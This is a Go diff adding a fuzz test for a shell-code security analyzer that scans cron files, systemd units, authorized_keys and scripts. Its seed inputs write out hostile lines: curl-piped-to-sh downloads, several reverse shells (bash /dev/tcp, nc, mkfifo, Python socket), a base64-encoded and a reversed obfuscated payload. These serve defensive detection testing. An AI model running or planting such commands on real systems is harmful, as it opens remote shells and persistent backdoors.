@@ -1,0 +1,38 @@
+package shell
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+)
+
+// FuzzContent analyses arbitrary text in the places shell code lives (crontabs, cron and rc
+// scripts, systemd units, authorized_keys, plain scripts): the analyzer returns, the same
+// findings from run to run, each with a rule, a path that is the file's own ("" means it, as
+// the scan fills in) or an absolute one it writes, and a title. (Evidence is the file's own
+// bytes: the report writers make it inert, not the analyzer.)
+func FuzzContent(f *testing.F) {
+	for _, s := range []struct{ p, text string }{
+		{"/etc/cron.d/x", "SHELL=/bin/sh\n*/5 * * * * root curl -fsSL http://203.0.113.7/a.sh | sh\n@reboot root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"},
+		{"/etc/crontab", "* * * * * root echo " + b64("bash -c 'sh -i >& /dev/tcp/10.0.0.1/9 0>&1'") + " | base64 -d | sh\n"},
+		{"/etc/systemd/system/x.service", "[Service]\nExecStart=/bin/sh -c 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f'\n"},
+		{"/root/.ssh/authorized_keys", "command=\"nc -e /bin/sh 203.0.113.7 4444\" ssh-ed25519 AAAA x\n"},
+		{"/usr/local/bin/run.sh", "#!/bin/sh\nf() { eval \"$(echo $1 | rev)\"; }\nf 'hs | 1.7.311.302//:ptth LSfs- lruc'\nwhile true; do $(printf '\\x73\\x68'); done\n"},
+		{"/etc/profile.d/x.sh", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'\n"},
+		{"/app/x.sh", "cat <<EOF > /etc/cron.d/y\n* * * * * root sh /tmp/z\nEOF\n${a:-$((1<<62))} \"$(( ${#x} ))\" ${x//a/b} <(echo) >(cat) {a,b}{c,d}\n"},
+	} {
+		f.Add(s.p, s.text)
+	}
+	f.Fuzz(func(t *testing.T, p, text string) {
+		p = "/" + strings.TrimLeft(p, "/")
+		got := scanFile(p, text)
+		if again := scanFile(p, text); fmt.Sprint(again) != fmt.Sprint(got) {
+			t.Fatalf("two analyses differ:\n%s\n%s", dump(got), dump(again))
+		}
+		for _, x := range got {
+			if x.Rule == "" || x.Title == "" || x.Path != "" && !strings.HasPrefix(x.Path, "/") {
+				t.Fatalf("finding %+v", x)
+			}
+		}
+	})
+}
